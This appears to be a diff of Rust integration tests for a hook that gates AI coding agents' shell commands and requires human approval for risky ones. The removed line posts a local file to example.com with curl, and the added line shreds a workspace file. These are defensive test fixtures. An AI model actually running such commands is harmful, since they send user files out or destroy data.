@@ -310,7 +310,14 @@ fn tree(ws: &Path) -> Vec<(String, String)> {
 
 const CLEAN: &str = "mkdir -p out && echo hello > out/b.txt && echo done";
 const SURPRISING: &str = "echo hello > out/b.txt; cat a.txt > notes.txt; echo done";
-const RISKY: &str = "curl -X POST https://example.com/hook -d @a.txt";
+/// Needs a person's approval (`fs.shred`) and calls nothing a stub answers:
+/// a command with stubbed calls is denied, never asked (tests/doors_hook.rs).
+const RISKY: &str = "shred -n 0 -z out/keep.txt";
+
+/// The file RISKY overwrites.
+fn keep_file(s: &Scene) {
+    std::fs::write(s.ws.join("out/keep.txt"), "keep\n").unwrap();
+}
 
 fn scoped(s: &Scene) {
     // The workspace's hook intent: the agent may write out/ only.
@@ -374,6 +381,7 @@ fn claude_code_surprising_command_is_denied_with_its_evidence() {
 fn claude_code_risky_command_is_asked_and_the_yes_promotes_once() {
     let s = Scene::new();
     scoped(&s);
+    keep_file(&s);
     let model = Model::start(&s.dir, RISKY);
     let result = s.claude(&model);
     // Non-interactive (-p), the host cannot show its prompt: the ask ends
@@ -386,9 +394,8 @@ fn claude_code_risky_command_is_asked_and_the_yes_promotes_once() {
     let results = model.tool_results();
     assert!(
         results.iter().any(|r| r.contains("needs your approval")
-            && r.contains("would-be actions")
-            && r.contains("curl -X POST")
-            && r.contains("[net.http.send]")
+            && r.contains("shred -n 0 -z out/keep.txt")
+            && r.contains("[fs.shred]")
             && r.contains(id)),
         "{results:#?}"
     );
@@ -465,6 +472,7 @@ fn codex_surprising_command_is_denied_with_its_evidence() {
 fn codex_risky_command_waits_for_a_reviewer_and_applies_nothing_without_one() {
     let s = Scene::new();
     scoped(&s);
+    keep_file(&s);
     let before = tree(&s.ws);
     let model = Model::start(&s.dir, RISKY);
     let _ = s.codex(&model);
